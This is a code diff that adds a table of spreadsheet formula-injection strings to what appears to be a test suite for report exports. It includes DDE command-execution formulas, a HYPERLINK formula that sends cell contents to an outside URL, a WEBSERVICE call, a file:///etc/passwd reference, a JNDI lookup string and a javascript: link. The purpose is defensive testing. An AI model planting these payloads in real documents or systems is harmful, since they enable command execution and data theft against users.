@@ -39,6 +39,45 @@ PAYLOADS = {
     "empty": "",
 }
 
+FORMULAS = {
+    "equals": "=1+1",
+    "array": "{=1+1}",
+    "plus": "+1+1",
+    "minus": "-1+1",
+    "at": "@SUM(1,1)",
+    "tab": "\t=1+1",
+    "return": "\r=1+1",
+    "new_line": "\n=1+1",
+    "space": " =1+1",
+    "nul": "\x00=1+1",
+    "full_width": "\uff1d1\uff0b1 \uff0b1 \uff0d1 \uff20SUM",
+    "command": "=cmd|' /C calc'!A0",
+    "old_command": 'DDE ("cmd";"/C calc";"!A0")',
+    "hyperlink": '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "service": '=WEBSERVICE("http://example.invalid/")',
+    "own_sheet": "='Chart data'!A1",
+    "other_book": "='[other.xlsx]Sheet1'!A1",
+    "error": "#N/A",
+    "error_ref": "#REF!",
+    "escape": "_x0041_ _x000D_ _x005F_x0041_",
+    "web": "http://example.invalid/",
+    "mail": "mailto:a@example.invalid",
+    "inside": "internal:Sheet1!A1",
+    "file": "file:///etc/passwd",
+    "number": "1e5",
+    "zeros": "00123",
+    "yes": "TRUE",
+    "day": "2026-01-02",
+    "quoted": "'=1+1",
+    "entities": "&quot;&amp;&#61;1",
+    "footer": '&P &N &A &D &G &"Arial" && &',
+    "sheet": "'[a]:b*c?d/e\\f'",
+    "history": "History",
+    "lookup": "${jndi:ldap://example.invalid/x} %s %(x)s {0}",
+    "markdown": "![x](http://example.invalid/x.png) [y](javascript:alert(1))",
+}
+EVERY = PAYLOADS | FORMULAS
+
 
 def poisoned(text: str) -> Report:
     """A report in which every string is the payload."""
